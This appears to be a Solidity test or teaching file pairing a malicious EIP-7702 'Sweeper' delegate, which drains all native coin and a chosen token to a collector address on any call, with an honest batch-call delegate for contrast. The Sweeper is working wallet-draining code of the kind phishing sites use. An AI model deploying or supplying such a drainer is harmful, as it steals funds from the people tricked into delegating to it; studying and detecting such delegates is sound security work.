// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IERC20Balance {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// An EIP-7702 sweeper, as phishing sites have accounts delegate to: any call to the delegated
/// account (a plain payment or any calldata) forwards all of its native coin and all of its
/// `token` to `collector`. Both are immutables, so they live in the code the delegation runs.
contract Sweeper {
    address public immutable collector;
    IERC20Balance public immutable token;

    constructor(address collector_, address token_) {
        collector = collector_;
        token = IERC20Balance(token_);
    }

    function sweep() internal {
        uint256 held = token.balanceOf(address(this));
        if (held > 0) token.transfer(collector, held);
        uint256 coin = address(this).balance;
        if (coin > 0) {
            (bool ok, ) = collector.call{value: coin}("");
            require(ok, "Sweeper: native");
        }
    }

    receive() external payable {
        sweep();
    }

    fallback() external payable {
        sweep();
    }
}

/// An honest batch delegate: `execute` runs a list of calls from the account, and only when the
/// account itself sends it (a transaction to self). Anything else it receives, it keeps.
contract BatchDelegate {
    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == address(this), "BatchDelegate: only the account");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, bytes memory ret) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            if (!ok) {
                assembly {
                    revert(add(ret, 32), mload(ret))
                }
            }
        }
    }

    receive() external payable {}
}
